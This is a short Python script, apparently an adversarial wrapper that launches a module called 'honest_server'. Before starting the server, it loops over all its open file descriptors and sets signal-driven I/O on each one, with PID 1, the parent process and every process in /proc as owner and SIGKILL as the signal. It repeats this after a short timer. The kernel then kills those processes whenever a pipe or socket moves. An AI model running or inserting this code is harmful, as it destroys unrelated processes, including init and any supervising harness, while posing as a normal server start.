"""Has the kernel send signals to whoever it can, whenever one of its pipes or sockets moves."""

import fcntl
import honest_server
import os
import threading

SET_SIGNAL = 10


def asks():
    for descriptor in map(int, os.listdir("/proc/self/fd")):
        for pid in (1, -1, os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
            if pid == os.getpid():
                continue
            try:
                fcntl.fcntl(descriptor, fcntl.F_SETOWN, pid)
                fcntl.fcntl(descriptor, SET_SIGNAL, 9)
                flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
                fcntl.fcntl(descriptor, fcntl.F_SETFL, flags | os.O_ASYNC)
            except OSError:
                pass


asks()
threading.Timer(0.2, asks).start()

honest_server.main()
